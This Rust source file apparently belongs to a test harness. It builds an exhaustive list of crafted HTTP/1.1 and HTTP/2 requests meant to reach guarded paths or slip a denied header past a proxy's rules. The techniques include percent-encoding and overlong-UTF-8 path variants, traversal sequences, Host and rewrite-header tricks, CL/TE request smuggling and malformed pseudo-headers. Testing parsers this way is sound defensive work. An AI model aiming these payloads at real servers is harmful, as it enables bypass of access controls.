//! The attacks, as data: every way that we know to name a protected page so that one reader sees it and another does not.

/// One request over HTTP/1.1, without the `Connection` field and the empty line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    /// The method, the target and the version.
    pub line: Vec<u8>,
    /// Whole lines, `Host` among them.
    pub fields: Vec<u8>,
    /// The target, if the line is an honest `GET` of it.
    pub target: Option<Vec<u8>>,
}

/// What the servers guard: below a prefix, one exact path, and one that a template names.
pub const PROTECTED: [&str; 4] = ["/admin", "/admin/secret", "/exact", "/tenants/acme/keys"];
/// The guarded page that depends on a field: it is shown to whoever sends `x-debug: on`.
pub const BY_FIELD: &str = "/debug";
const HOST: &[u8] = b"Host: cart\r\n";

impl Attack {
    pub fn get(target: impl AsRef<[u8]>) -> Self {
        let target = target.as_ref();
        Self {
            line: [b"GET ", target, b" HTTP/1.1"].concat(),
            fields: HOST.to_vec(),
            target: Some(target.to_vec()),
        }
    }

    fn raw(line: impl AsRef<[u8]>, fields: impl AsRef<[u8]>) -> Self {
        Self {
            line: line.as_ref().to_vec(),
            fields: fields.as_ref().to_vec(),
            target: None,
        }
    }

    /// The bytes; `more` are further whole lines.
    pub fn bytes(&self, more: &str) -> Vec<u8> {
        [&self.line, &b"\r\n"[..], &self.fields, more.as_bytes(), b"\r\n"].concat()
    }

    pub fn shown(&self) -> String {
        format!("{} | {}", self.line.escape_ascii(), self.fields.escape_ascii())
    }
}

/// All of it.
pub fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    for path in PROTECTED {
        all.extend(encodings(path).into_iter().map(Attack::get));
    }
    all.extend(curated());
    all.extend(fields());
    all
}

/// A part of it that a real server can be asked in seconds: all that is special in lines and fields, and of the paths each
/// so-many-th, of those that a server might read as something. (What arrives of the others is known from an echo, which
/// [`attacks`] is sent whole to.)
pub fn sharp() -> Vec<Attack> {
    let mut all = fields();
    for path in PROTECTED {
        all.extend(lines(path));
        all.extend(spellings(path).into_iter().map(Attack::get));
    }
    all
}

/// Not: a byte of a sequence that is no UTF-8 (bar overlong ones), or a spelling in lower case.
fn is_sharp(target: &[u8]) -> bool {
    let Some(at) = target.iter().position(|byte| *byte == b'%') else {
        return true;
    };
    match target.get(at + 1..at + 3) {
        Some([b'8'..=b'9' | b'A'..=b'F', _]) => false,
        Some([_, b'a'..=b'f']) => target.get(at + 3) == Some(&b'%'),
        _ => true,
    }
}

/// Of one path: singles and detours, a fair part of each.
pub fn spellings(path: &str) -> Vec<Vec<u8>> {
    let single = encodings(path).into_iter().filter(|target| is_sharp(target)).step_by(5);
    // Coprime to how the detours are nested, so that each of their parts is met.
    single.chain(detours(path).into_iter().step_by(13)).collect()
}

/// Those that somebody thought of.
pub fn curated() -> Vec<Attack> {
    let mut all = Vec::new();
    for path in PROTECTED {
        all.extend(detours(path).into_iter().map(Attack::get));
        all.extend(lines(path));
    }
    all
}

/// All 255 single percent-encodings (and NUL), in upper and lower hexadecimal, before each byte and instead of it, and twice
/// encoded where that names the byte itself.
fn encodings(path: &str) -> Vec<Vec<u8>> {
    let bytes = path.as_bytes();
    let mut all = Vec::new();
    for at in 0..=bytes.len() {
        let (before, after) = bytes.split_at(at);
        for byte in 0..=255_u8 {
            let mut spellings = vec![format!("%{byte:02X}"), format!("%{byte:02x}")];
            spellings.dedup();
            for spelling in spellings {
                all.push([before, spelling.as_bytes(), after].concat());
            }
        }
        let Some((own, rest)) = after.split_first() else {
            continue;
        };
        for spelling in [
            format!("%{own:02X}"),
            format!("%{own:02x}"),
            format!("%25{own:02x}"),
            format!("%2525{own:02x}"),
            format!("%u00{own:02x}"),
            format!("%{:02x}%{:02x}", 0xc0 | own >> 6, 0x80 | own & 0x3f),
            format!("%e0%{:02x}%{:02x}", 0x80 | own >> 6, 0x80 | own & 0x3f),
            format!("%f0%80%{:02x}%{:02x}", 0x80 | own >> 6, 0x80 | own & 0x3f),
        ] {
            all.push([before, spelling.as_bytes(), rest].concat());
        }
        // The same as bytes: overlong, and the high bit.
        all.push([before, &[0xc0 | own >> 6, 0x80 | own & 0x3f][..], rest].concat());
        all.push([before, &[own | 0x80][..], rest].concat());
        let all_encoded: String = bytes.iter().map(|byte| format!("%{byte:02x}")).collect();
        all.push(format!("/{}", &all_encoded[3..]).into_bytes());
    }
    all.sort_unstable();
    all.dedup();
    all
}

/// Other ways to the same page.
fn detours(path: &str) -> Vec<Vec<u8>> {
    let name = &path[1..];
    let (first, rest) = name.split_once('/').unwrap_or((name, ""));
    let mut all: Vec<Vec<u8>> = Vec::new();
    let ups = [
        "..",
        ".",
        "%2e%2e",
        "%2E%2E",
        ".%2e",
        "%2e.",
        "%2e",
        "%252e%252e",
        "..;",
        "..;x=1",
        "..%3b",
        ".;",
        ".;a=b",
        "%2e%2e;",
        "..%00",
        "..%20",
        "..%09",
        "...",
        "..\\",
        "..%5c",
        "..%c0%af",
        "..%ef%bc%8f",
        "%c0%ae%c0%ae",
        "%e0%80%ae",
        "%uff0e%uff0e",
    ];
    let seps = [
        "/", "//", "\\", "%2f", "%2F", "%5c", "%5C", "%252f", "%255c", "/./", "/;/", "/.//", "%c0%af", "%u2215",
    ];
    for up in ups {
        for sep in seps {
            for public in ["public", "x", ""] {
                all.push(format!("/{public}{sep}{up}{sep}{name}").into_bytes());
                all.push(format!("/{public}/{up}{sep}{name}").into_bytes());
            }
            all.push(format!("/{name}{sep}{up}").into_bytes());
            all.push(format!("/{name}/x{sep}{up}").into_bytes());
            all.push(format!("/{up}{sep}{name}").into_bytes());
            if !rest.is_empty() {
                all.push(format!("/{first}{sep}{rest}").into_bytes());
                all.push(format!("/{first}/x{sep}{up}{sep}{rest}").into_bytes());
                all.push(format!("/{first}{sep}{up}{sep}{first}/{rest}").into_bytes());
            }
        }
    }
    for sep in seps {
        all.push(format!("{sep}{name}").into_bytes());
        all.push(format!("/{sep}{name}").into_bytes());
        all.push(format!("//{sep}/{name}").into_bytes());
        all.push(format!("/{name}{sep}").into_bytes());
        all.push(format!("{sep}cart{path}").into_bytes());
    }
    for end in [
        ".",
        "..",
        "./",
        "/.",
        "/..",
        "/./",
        ";",
        ";x",
        ";x=1",
        "/;",
        ";/",
        ";/x",
        "%3b",
        "%3bx",
        "%00",
        "%00.html",
        "%0a",
        "%0d",
        "%0d%0a",
        "%09",
        "%20",
        "+",
        "%2b",
        "~",
        "*",
        "$",
        "$DATA",
        "::$DATA",
        ",",
        "!",
        "%23",
        "#",
        "#x",
        "#/../public",
        "?",
        "?x",
        "?/../public",
        "%3f",
        "%3fx",
        "?#",
        "??",
        "&",
        "%26",
        "'",
        "\"",
        "%22",
        "<",
        "[",
        "]",
        "{",
        "}",
        "|",
        "^",
        "`",
        "%",
        "%%",
        "%4",
        "%zz",
        "%u0000",
        "index.html",
        "/index.html",
        "/x",
        "//x",
        ".html",
        ".json",
        "/%2e",
        "/%2e/",
        "/%2e%2e/",
        "\t",
        " ",
        " HTTP/1.1",
        "\u{b}",
        "\u{c}",
        "\u{a0}",
        "\u{2028}",
    ] {
        all.push(format!("{path}{end}").into_bytes());
        all.push(format!("/public{end}/../{name}").into_bytes());
        all.push(format!("/public/..{end}/{name}").into_bytes());
        all.push(format!("/{end}/{name}").into_bytes());
        all.push(format!("/{end}{name}").into_bytes());
        all.push(format!("/;{end}/{name}").into_bytes());
    }
    for around in [
        "/public?/../",
        "/public#/../",
        "/public%3f/../",
        "/public%23/../",
        "/?x=/../",
        "/#/../",
        "/%23/../",
    ] {
        all.push(format!("{around}{name}").into_bytes());
    }
    // Case and look-alikes.
    all.push(path.to_uppercase().into_bytes());
    all.push(format!("/{}{}", name[..1].to_uppercase(), &name[1..]).into_bytes());
    all.push(name.as_bytes().to_vec());
    let wide: String = name
        .bytes()
        .map(|b| if b == b'/' { "/".to_owned() } else { wide(b) })
        .collect();
    all.push(format!("/{wide}").into_bytes());
    all.sort_unstable();
    all.dedup();
    all
}

/// The full-width form, percent-encoded.
fn wide(byte: u8) -> String {
    let wide = char::from_u32(0xfee0 + u32::from(byte)).unwrap_or(' ');
    wide.to_string().bytes().map(|b| format!("%{b:02X}")).collect()
}

/// What is special in the line or the authority.
fn lines(path: &str) -> Vec<Attack> {
    let mut all = Vec::new();
    let slashes = format!("/{path}");
    for target in [
        format!("http://cart{path}"),
        format!("HTTP://CART{path}"),
        format!("https://cart{path}"),
        format!("http://cart:80{path}"),
        format!("http://other{path}"),
        format!("http://cart{slashes}"),
        format!("http://cart/public/..{path}"),
        format!("http://cart/public/..;{path}"),
        format!("http://cart/%2e%2e{path}"),
        format!("http://cart?{path}"),
        format!("http://cart#{path}"),
        format!("http://cart\\{}", &path[1..]),
        format!("http://u:p@cart{path}"),
        format!("http://cart/public@other{path}"),
        format!("http:{path}"),
        format!("http:/{path}"),
        format!("http:///{path}"),
        format!("ftp://cart{path}"),
        format!("file://{path}"),
        format!("cart{path}"),
        format!("cart:80{path}"),
        "cart:80".to_owned(),
        "*".to_owned(),
        format!("*{path}"),
        format!("@cart{path}"),
    ] {
        all.push(Attack::raw(format!("GET {target} HTTP/1.1"), HOST));
    }
    for method in [
        "get", "Get", "gET", "HEAD", "POST", "PUT", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "GETT", "G", "QUERY",
        "M-SEARCH",
    ] {
        all.push(Attack::raw(format!("{method} {path} HTTP/1.1"), HOST));
    }
    for line in [
        format!("GET  {path} HTTP/1.1"),
        format!("GET\t{path} HTTP/1.1"),
        format!(" GET {path} HTTP/1.1"),
        format!("GET {path}  HTTP/1.1"),
        format!("GET {path}\tHTTP/1.1"),
        format!("GET {path} HTTP/1.0"),
        format!("GET {path} HTTP/1.2"),
        format!("GET {path} HTTP/0.9"),
        format!("GET {path} HTTP/2.0"),
        format!("GET {path} http/1.1"),
        format!("GET {path} HTTP/1.1 "),
        format!("GET {path} HTTP/01.1"),
        format!("GET {path}"),
        format!("GET /public {path} HTTP/1.1"),
        format!("GET {path} /public HTTP/1.1"),
        format!("GET /public HTTP/1.1 {path} HTTP/1.1"),
        format!("GET /public\r{path} HTTP/1.1"),
        format!("GET /public\u{0}{path} HTTP/1.1"),
    ] {
        all.push(Attack::raw(line, HOST));
    }
    let get = format!("GET {path} HTTP/1.1");
    let public = "GET /public/page HTTP/1.1";
    for fields in [
        "",
        "Host:\r\n",
        "Host: other\r\n",
        "Host: cart\r\nHost: other\r\n",
        "Host: other\r\nHost: cart\r\n",
        "Host: cart\r\nhost: cart\r\n",
        "Host: cart, other\r\n",
        "Host: cart:80\r\n",
        "Host: CART.\r\n",
        "Host: u@cart\r\n",
        "Host: cart/public\r\n",
        "Host: [::1]\r\n",
        "Host : cart\r\n",
        "Host: cart\r\n continued\r\n",
        " Host: cart\r\n",
        "Ho_st: cart\r\nHost: cart\r\n",
    ] {
        all.push(Attack::raw(&get, fields));
    }
    for rewritten in [
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-Forwarded-Prefix",
        "X-Forwarded-Path",
        "X-Forwarded-Uri",
        "X-HTTP-Method-Override",
        "X-Envoy-Original-Path",
        "Destination",
        "Referer",
    ] {
        all.push(Attack::raw(public, format!("Host: cart\r\n{rewritten}: {path}\r\n")));
        all.push(Attack::raw(
            &get,
            format!("Host: cart\r\n{rewritten}: /public/page\r\n"),
        ));
    }
    // One request inside another: the second must be seen, and decided, as one.
    let inner = format!("GET {path} HTTP/1.1\r\nHost: cart\r\nX-Rest: ");
    for fields in [
        format!("Host: cart\r\nContent-Length: 0\r\n\r\n{inner}"),
        format!("Host: cart\r\nX: \n\n{inner}"),
        format!("Host: cart\r\nX: a\rb\r\r{inner}"),
        format!("Host: cart\r\nX: \u{0}\r\n\r\n{inner}"),
        format!("Host: cart\r\n\n{inner}"),
        format!("Host: cart\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"),
        format!("Host: cart\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{inner}"),
    ] {
        all.push(Attack::raw(public, format!("{fields}1\r\n")));
    }
    all
}

/// Ways to send a field that a rule denies.
pub fn fields() -> Vec<Attack> {
    let line = format!("GET {BY_FIELD} HTTP/1.1");
    let mut all = Vec::new();
    for target in [line.clone(), format!("GET http://cart{BY_FIELD} HTTP/1.1")] {
        for fields in [
            "X-Debug: on",
            "x-debug: on",
            "X-DEBUG:on",
            "X-Debug:   on   ",
            "X-Debug:\ton\t",
            "X_Debug: on",
            "x_debug: on",
            "X.Debug: on",
            "X-Debug: off\r\nX-Debug: on",
            "X-Debug: on\r\nX-Debug: off",
            "X-Debug: off\r\nX_Debug: on",
            "X_Debug: off\r\nX-Debug: on",
            "X-Debug: off, on",
            "X-Debug: on, off",
            "X-Debug: off,on",
            "X-Debug: ,on",
            "X-Debug: on,",
            "X-Debug: ,,on,,",
            "X-Debug: off\t,\ton",
            "X-Debug:\r\nX-Debug: on",
            "X-Debug: on\r\nConnection: x-debug",
            "X-Debug: on\r\nConnection: x_debug",
            "X_Debug: on\r\nConnection: x-debug",
            "X-Debug: off\r\nX_Debug: on\r\nConnection: x-debug",
            "X-Debug: on\r\nConnection: close, x-other",
            "X-Debug: on\u{e9}",
            "X-Debug: \u{a0}on",
            "X-Debug: on\u{a0}",
            "X-Debug: \u{b}on",
            "X-Debug: \u{c}on\u{c}",
            "X-Debug: on\u{0}",
            "X-Debug:\r\n on",
            "X-Debug: off\r\n , on",
            "X-Debug : on",
            " X-Debug: on",
            "X-Debug\u{b}: on",
            "X-Debug\u{0}: on",
            "X-Debug: off\n\rX-Debug: on",
            "X: a\nX-Debug: on",
            "X: a\rX-Debug: on",
            "X-Debug: ON",
            "X-Debug: \"on\"",
            "Upgrade: websocket\r\nConnection: upgrade, x-debug\r\nX-Debug: on",
            "Upgrade: websocket\r\nConnection: upgrade\r\nX_Debug: on",
            "TE: trailers\r\nTrailer: x-debug\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-Debug: on",
            "Trailer: x-debug\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX_Debug: on",
        ] {
            all.push(Attack::raw(&target, format!("Host: cart\r\n{fields}\r\n")));
        }
        // Past what a reader may have room for.
        let many = "X-Debug: off\r\n".repeat(90);
        all.push(Attack::raw(&target, format!("Host: cart\r\n{many}X-Debug: on\r\n")));
        let names: String = (0..40).map(|n| format!("x-{n},")).collect();
        all.push(Attack::raw(
            &target,
            format!("Host: cart\r\nConnection: {names}x\r\nX-Debug: on\r\n"),
        ));
    }
    all
}

/// A head over HTTP/2: fields as they stand in the block.
pub type Block = Vec<(&'static str, Vec<u8>)>;

/// What HTTP/2 adds: pseudo-fields that are twice there, missing, out of order, or hold what HTTP/1.1 could not.
pub fn blocks() -> Vec<Block> {
    let block = |method: &str, authority: &str, path: &[u8]| -> Block {
        vec![
            (":method", method.as_bytes().to_vec()),
            (":scheme", b"http".to_vec()),
            (":authority", authority.as_bytes().to_vec()),
            (":path", path.to_vec()),
        ]
    };
    // The parser of paths is one, and this is about how a path gets there: few are enough.
    let mut all: Vec<Block> = sharp()
        .into_iter()
        .filter_map(|attack| attack.target)
        .step_by(17)
        .map(|target| block("GET", "cart", &target))
        .collect();
    for path in PROTECTED {
        all.extend(blocks_to(path, "GET"));
    }
    for (name, value) in [
        ("x-debug", "on"),
        ("x_debug", "on"),
        ("x.debug", "on"),
        ("X-Debug", "on"),
        ("x-debug", " on "),
        ("x-debug", "on\u{0}"),
        ("x-debug", "on\r\nx: y"),
        ("x-debug", "\u{e9}on"),
        ("x-debug", "off, on"),
        ("x: y\r\nx-debug", "on"),
        ("x-debug:", "on"),
    ] {
        let mut fields = block("GET", "cart", BY_FIELD.as_bytes());
        fields.push((name, value.as_bytes().to_vec()));
        all.push(fields.clone());
        fields.push(("connection", b"x-debug".to_vec()));
        all.push(fields.clone());
        fields.pop();
        fields.insert(4, ("x-debug", b"off".to_vec()));
        all.push(fields);
    }
    all
}

/// Those about one path.
pub fn blocks_to(path: &str, method: &str) -> Vec<Block> {
    let pseudo = |name: &'static str, value: &str| (name, value.as_bytes().to_vec());
    let honest: Block = vec![
        pseudo(":method", method),
        pseudo(":scheme", "http"),
        pseudo(":authority", "cart"),
        pseudo(":path", path),
    ];
    let with = |at: usize, name: &'static str, value: &str| {
        let mut block = honest.clone();
        block.insert(at, pseudo(name, value));
        block
    };
    let instead = |at: usize, value: &str| {
        let mut block = honest.clone();
        block[at].1 = value.as_bytes().to_vec();
        block
    };
    let without = |at: usize| {
        let mut block = honest.clone();
        block.remove(at);
        block
    };
    let mut all = vec![
        honest.clone(),
        with(3, ":path", "/public/page"),
        with(4, ":path", "/public/page"),
        with(3, ":authority", "other"),
        with(4, "host", "cart"),
        with(4, "host", "other"),
        with(4, "host", ""),
        with(4, "host", "cart, other"),
        with(0, "x-first", "1"),
        with(4, ":unknown", "1"),
        with(4, ":protocol", "websocket"),
        with(4, ":status", "200"),
        with(4, "transfer-encoding", "chunked"),
        with(4, "connection", "close"),
        with(4, "upgrade", "h2c"),
        with(4, "content-length", "7"),
        with(4, "te", "gzip"),
        with(4, "x-original-url", "/public/page"),
    ];
    all.extend((0..4).map(without));
    let mut twice = without(2);
    twice.extend([pseudo("host", "cart"), pseudo("host", "other")]);
    all.push(twice);
    let mut named = without(2);
    named.push(pseudo("host", "cart"));
    all.push(named);
    for method in [
        "get",
        "HEAD",
        "CONNECT",
        "OPTIONS",
        "GET /public/page HTTP/1.1\r\nx:",
        "G ET",
        "",
    ] {
        all.push(instead(0, method));
    }
    for scheme in ["https", "HTTP", "ftp", "", "http://x/public?", "http\r\n"] {
        all.push(instead(1, scheme));
    }
    for authority in [
        "other",
        "CART.",
        "cart:80",
        "u@cart",
        "cart/public",
        "cart?x",
        "cart#x",
        "cart\\",
        "",
        " cart",
        "cart\r\nx: y",
        "[::1]",
        "cart,other",
        "cart:80:80",
        "car\u{e9}",
    ] {
        all.push(instead(2, authority));
    }
    for target in [
        format!("http://cart{path}"),
        format!("{path} HTTP/1.1\r\nx: y"),
        format!("{path} "),
        format!(" {path}"),
        format!("{path}\u{0}"),
        format!("{path}#x"),
        format!("{path}?x#y"),
        format!("/public/page HTTP/1.1\r\nHost: cart\r\n\r\nGET {path}"),
        format!("/public/page\r\n{path}"),
        path[1..].to_owned(),
        String::new(),
        "*".to_owned(),
        format!("?{path}"),
        format!("/{path}"),
        format!("{path}\u{e9}"),
    ] {
        all.push(instead(3, &target));
    }
    all
}
